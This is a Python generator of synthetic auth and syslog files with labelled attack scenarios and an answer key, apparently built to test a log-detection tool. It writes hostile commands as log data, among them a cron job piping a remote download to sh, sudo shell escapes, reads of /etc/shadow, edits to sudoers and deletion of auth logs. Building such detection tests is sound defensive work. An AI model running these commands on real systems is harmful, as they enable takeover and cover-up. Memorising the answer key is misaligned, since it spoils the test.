"""Authentication and system logs: sshd, sudo, su, useradd, cron, in the three ways syslog writes them."""
from common import Answers, Log, STAFF, after, at, generator

MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()


class Syslog(Log):
    """A host's log. `style`: "bsd" (RFC 3164, no year), "iso" (rsyslog's ISO stamps), "5424" (RFC 5424)."""

    def __init__(self, path, host, style="bsd"):
        super().__init__(path)
        self.host = host
        self.style = style
        self.random = generator(path)
        self.pid = 800

    def say(self, moment, program, message, pid=True, facility=10):
        self.pid += self.random.randrange(1, 9)
        number = self.pid if pid is True else pid
        if self.style == "bsd":
            tag = "%s[%d]" % (program, number) if pid else program
            stamp = "%s %2d %s" % (MONTHS[moment.month - 1], moment.day, moment.strftime("%H:%M:%S"))
            self.add(moment, "%s %s %s: %s" % (stamp, self.host, tag, message))
        elif self.style == "iso":
            tag = "%s[%d]" % (program, number) if pid else program
            stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+07:00"
            self.add(moment, "%s %s %s: %s" % (stamp, self.host, tag, message))
        else:
            stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:23] + "+07:00"
            data = '[origin ip="10.20.0.9" software="rsyslogd"]' if self.random.random() < 0.2 else "-"
            self.add(
                moment,
                "<%d>1 %s %s %s %s - %s %s" % (facility * 8 + 6, stamp, self.host, program, number or "-", data, message))

    # sshd

    def failed(self, moment, user, address, known=True):
        port = self.random.randrange(32768, 60999)
        pid = self.pid + 3
        if not known:
            self.say(moment, "sshd", "Invalid user %s from %s port %d" % (user, address, port), pid)
        self.say(
            moment, "sshd", "Failed password for %s%s from %s port %d ssh2"
            % ("" if known else "invalid user ", user, address, port), pid)

    def accepted(self, moment, user, address, method="password"):
        port = self.random.randrange(32768, 60999)
        key = ": ED25519 SHA256:" + "".join(self.random.choices("abcdefghijkmnpqrstuvwxyz23456789", k=43))
        self.say(
            moment, "sshd", "Accepted %s for %s from %s port %d ssh2%s"
            % (method, user, address, port, key if method == "publickey" else ""))
        self.say(moment, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=1003) by (uid=0)" % user)

    # others

    def sudo(self, moment, user, command, problem=None, directory=None):
        self.say(
            moment, "sudo", "%8s : %sTTY=pts/%d ; PWD=%s ; USER=root ; COMMAND=%s"
            % (user, problem + " ; " if problem else "", self.random.randrange(4), directory or "/home/" + user, command),
            False)

    def cron(self, moment, user, command):
        self.say(moment, "CRON", "(%s) CMD (%s)" % (user, command), facility=9)

    def ordinary(self, admins=("dung.pham", "hung.vu"), nets=("10.20.1.", "10.20.2.")):
        """A working day: jobs, colleagues with keys, one who mistypes, the noise of the internet."""
        pick = self.random
        for hour in range(24):
            self.cron(at(hour, 17, 1), "root", "   cd / && run-parts --report /etc/cron.hourly")
            for minute in range(0, 60, 15):
                self.cron(at(hour, minute, 1), "www-data", "/usr/bin/php /srv/portal/artisan schedule:run >/dev/null 2>&1")
        self.cron(at(2, 30, 1), "root", "/usr/local/bin/backup.sh --to /srv/backup | /usr/bin/logger -t backup")
        self.cron(at(6, 25, 1), "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }")
        self.cron(at(3, 10, 1), "root", "curl -fsS https://status.example.org/ping/backup > /dev/null")
        for _ in range(14):
            moment = at(pick.randrange(7, 18), pick.randrange(60), pick.randrange(60))
            user = pick.choice(admins)
            self.accepted(moment, user, pick.choice(nets) + str(pick.randrange(10, 60)), "publickey")
            self.say(after(moment, 40), "systemd-logind", "New session %d of user %s." % (pick.randrange(40, 900), user))
            command = pick.choice([
                "/usr/bin/systemctl reload nginx", "/usr/bin/apt-get update", "/usr/sbin/visudo -c", "/usr/bin/less /var/log/syslog",
                "/usr/bin/vim /etc/nginx/sites-available/cong-dich-vu-cong", "/usr/bin/journalctl -u php8.2-fpm --since today",
                "/usr/bin/find /srv/portal -name '*.log' -mtime +30", "/usr/bin/du -sh /var/log", "/usr/bin/cat /etc/passwd",
            ])
            self.sudo(after(moment, pick.randrange(60, 300)), user, command)
        # One colleague mistypes twice, another gives sudo a wrong password once, a script's key has expired.
        colleague, address = pick.choice(STAFF), pick.choice(nets) + str(pick.randrange(60, 200))
        moment = at(8, pick.randrange(60), 10)
        self.failed(moment, colleague, address)
        self.failed(after(moment, 7), colleague, address)
        self.accepted(after(moment, 19), colleague, address)
        self.sudo(at(9, 41, 3), admins[0], "/usr/bin/systemctl restart php8.2-fpm", "3 incorrect password attempts")
        self.say(at(10, 5, 44), "su", "FAILED SU (to root) %s on pts/1" % admins[1])
        self.say(at(10, 5, 58), "su", "(to root) %s on pts/1" % admins[1])
        for hour in (1, 7, 13, 19):
            self.say(at(hour, 44, 9), "sshd", "Connection closed by authenticating user backup 10.20.0.40 port 50122 [preauth]")
        # The internet knocks: a name or two from each address.
        for number in range(12):
            moment = at(pick.randrange(24), pick.randrange(60), pick.randrange(60))
            address = "192.0.2.%d" % pick.randrange(1, 254)
            for step in range(pick.randrange(1, 4)):
                self.failed(after(moment, step * 4), pick.choice(["admin", "test", "oracle", "ubuntu"]), address, False)
        self.say(at(4, 11, 2), "useradd", "new user: name=_exporter, UID=117, GID=124, home=/var/lib/exporter, "
                 "shell=/usr/sbin/nologin, from=none")


def brute_force(answers):
    """web-01: guessing by force that finds deploy's password, and an address that only guesses."""
    log = Syslog("attacks/auth-web-01.log", "web-01")
    log.ordinary()
    pick, moment = log.random, at(2, 13, 4)
    first = moment
    for _ in range(58):
        user = pick.choice(["root", "root", "deploy", "deploy", "admin", "git"])
        log.failed(moment, user, "203.0.113.7", user in ("root", "deploy"))
        moment = after(moment, pick.randrange(2, 7))
    log.accepted(moment, "deploy", "203.0.113.7")
    answers.add(log.path, "ssh_login_after_brute_force", "203.0.113.7", first, moment)

    moment = first = at(14, 30, 12)
    for _ in range(31):
        log.failed(moment, "root", "203.0.113.8")
        last, moment = moment, after(moment, pick.randrange(3, 12))
    answers.add(log.path, "ssh_brute_force", "203.0.113.8", first, last)
    first = at(18, 22, 40)
    for number, name in enumerate(["oracle", "oracle1", "test", "guest", "ftp", "pi", "user"]):
        last = after(first, 2 * number)
        log.say(last, "sshd", "Invalid user %s from 203.0.113.9 port 40112" % name)
    answers.add(log.path, "ssh_brute_force", "203.0.113.9", first, last)

    first = at(19, 2, 3)
    for number in range(8):
        last = after(first, number)
        log.say(last, "sshd", "Disconnected from authenticating user root 203.0.113.10 port %d [preauth]" % (50000 + 11 * number))
    answers.add(log.path, "ssh_brute_force", "203.0.113.10", first, last)
    # Attacked the portal by night (see web_attacks.py), comes in by key in the morning.
    log.accepted(at(9, 12, 30), "deploy", "203.0.113.86", "publickey")
    log.write()


def spraying(answers):
    """db-01, ISO stamps: one password for all staff; and one account from many addresses."""
    log = Syslog("attacks/auth-db-01.log", "db-01", "iso")
    log.ordinary()
    moment = first = at(11, 3, 20, 512)
    for user in STAFF[:13]:
        log.failed(moment, user, "203.0.113.23")
        last, moment = moment, after(moment, log.random.randrange(45, 130))
    answers.add(log.path, "ssh_password_spraying", "203.0.113.23", first, last)

    moment = first = at(20, 5, 1, 77)
    for number in range(14):
        log.failed(moment, "thu.dinh", "203.0.113.%d" % (100 + number))
        last, moment = moment, after(moment, log.random.randrange(60, 170))
    # A slip of their own in the morning counts among the addresses of the twelve hours.
    answers.add(log.path, "ssh_distributed_guessing_slow", "thu.dinh", at(8, 39, 10, 0), last)

    moment = first = at(16, 0, 4, 5)
    names = ["ftpuser", "jenkins", "hadoop", "pi", "guest", "support", "user1", "teamspeak", "nagios", "minecraft",
             "ansible", "elastic", "vagrant", "steam", "zabbix", "dspace", "odoo", "web"]
    for name in names:
        log.failed(moment, name, "203.0.113.24", False)
        last, moment = moment, after(moment, log.random.randrange(400, 640))
    answers.add(log.path, "ssh_brute_force", "203.0.113.24", first, last)
    log.write()


def slow_guessing(answers):
    """mail-01, gzipped: guessing too slow for a five-minute window, and against keys only."""
    log = Syslog("attacks/auth-mail-01.log.gz", "mail-01")
    log.ordinary()
    moment = first = at(0, 20, 0)
    for _ in range(34):
        log.failed(moment, "root", "203.0.113.61")
        moment = after(moment, log.random.randrange(350, 420))
    log.accepted(moment, "root", "203.0.113.61")
    answers.add(log.path, "ssh_login_after_brute_force", "203.0.113.61", first, moment)

    moment = first = at(17, 40, 7)
    for _ in range(26):
        log.say(moment, "sshd", "Connection closed by authenticating user root 203.0.113.62 port %d [preauth]"
                % log.random.randrange(32768, 60999))
        last, moment = moment, after(moment, log.random.randrange(8, 25))
    answers.add(log.path, "ssh_brute_force", "203.0.113.62", first, last)

    moment = first = at(21, 2, 0)
    for user in STAFF[1:13]:
        log.failed(moment, user, "203.0.113.63")
        moment = after(moment, log.random.randrange(100, 200))
    log.accepted(moment, "yen.phan", "203.0.113.63")
    answers.add(log.path, "ssh_login_after_brute_force", "203.0.113.63", first, moment)
    log.write()


def inside(answers):
    """gw-01, RFC 5424: what people with an account do who should not."""
    log = Syslog("attacks/auth-gw-01.log", "gw-01", "5424")
    log.ordinary()
    first = at(13, 20, 11, 230)
    log.sudo(first, "quang.mai", "/usr/bin/cat /etc/shadow", "user NOT in sudoers")
    log.sudo(at(13, 20, 40, 7), "quang.mai", "/bin/bash", "user NOT in sudoers")
    log.sudo(at(13, 26, 2, 99), "quang.mai", "/usr/bin/find . -exec /bin/sh ; -quit", "command not allowed")
    answers.add(log.path, "sudo_abuse", "quang.mai", first, at(13, 26, 2, 99))

    log.sudo(at(15, 1, 5), "lan.bui", "/usr/bin/vim -c :!/bin/sh /etc/hosts")
    answers.add(log.path, "sudo_shell_escape", "lan.bui", at(15, 1, 5), at(15, 1, 5))

    log.sudo(at(16, 40, 0), "son.trinh", "/usr/bin/tee -a /etc/sudoers")
    answers.add(log.path, "sudo_edit_of_credentials", "son.trinh", at(16, 40, 0), at(16, 40, 0))

    for number in range(4):
        moment = at(10, 30 + 4 * number, 9)
        log.sudo(moment, "nga.ngo", "/bin/su -", "3 incorrect password attempts")
    answers.add(log.path, "sudo_password_guessing", "nga.ngo", at(10, 30, 9), moment)

    log.sudo(at(22, 15, 3), "tuan.cao", "/usr/bin/rm -f /var/log/auth.log /var/log/auth.log.1")
    answers.add(log.path, "log_clearing", "tuan.cao", at(22, 15, 3), at(22, 15, 3))

    for number in range(7):
        moment = at(19, 8, 5 + 20 * number)
        log.say(moment, "su", "FAILED SU (to root) khanh.do on pts/2")
    answers.add(log.path, "su_guessing", "khanh.do", at(19, 8, 5), moment)

    log.sudo(at(23, 40, 1), "minh.dang", "/usr/bin/passwd -S root", "user NOT in sudoers")
    answers.add(log.path, "sudo_not_in_sudoers", "minh.dang", at(23, 40, 1), at(23, 40, 1))
    log.write()


def persistence(answers):
    """app-01, zstd: accounts and cron jobs that stay behind."""
    log = Syslog("attacks/syslog-app-01.log.zst", "app-01", "iso")
    log.ordinary()
    log.say(at(3, 31, 8), "useradd", "new group: name=support2, GID=1012")
    log.say(at(3, 31, 8), "useradd", "new user: name=support2, UID=1012, GID=1012, home=/home/support2, shell=/bin/bash, "
            "from=/dev/pts/0")
    log.say(at(3, 32, 40), "usermod", "add 'support2' to group 'sudo'")
    log.say(at(3, 32, 40), "usermod", "add 'support2' to shadow group 'sudo'")
    answers.add(log.path, "new_administrator", "support2", at(3, 31, 8), at(3, 32, 40))

    log.say(at(4, 2, 0), "useradd", "new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")
    answers.add(log.path, "new_root_account", "sysadm", at(4, 2, 0), at(4, 2, 0))

    log.say(at(9, 15, 30), "useradd", "new user: name=intern, UID=1013, GID=1013, home=/home/intern, shell=/bin/bash, "
            "from=/dev/pts/1")
    answers.add(log.path, "new_account", "intern", at(9, 15, 30), at(9, 15, 30))

    log.say(at(11, 0, 0), "usermod", "add 'chi.le' to group 'docker'")
    answers.add(log.path, "added_to_admin_group", "chi.le", at(11, 0, 0), at(11, 0, 0))

    first = at(5, 10, 11)
    log.say(first, "crontab", "(www-data) REPLACE (www-data)", facility=9)
    for number in range(4):
        moment = at(5, 15 + 10 * number, 1)
        log.cron(moment, "www-data", "curl -fsSL http://203.0.113.90/a.txt | sh")
    answers.add(log.path, "cron_persistence", "app-01", first, moment)

    first = at(16, 0, 1)
    log.cron(first, "root", "/tmp/.X11/sshd -c /tmp/.X11/conf >/dev/null 2>&1")
    answers.add(log.path, "cron_download_to_shell", "app-01", first, first)
    log.write()


def ordinary(answers):
    for host, style in (("web-02", "bsd"), ("vpn-01", "iso"), ("ldap-01", "5424")):
        log = Syslog("ordinary/auth-%s.log" % host, host, style)
        log.ordinary()
        log.write()


def make(answers: Answers):
    for maker in (brute_force, spraying, slow_guessing, inside, persistence, ordinary):
        maker(answers)
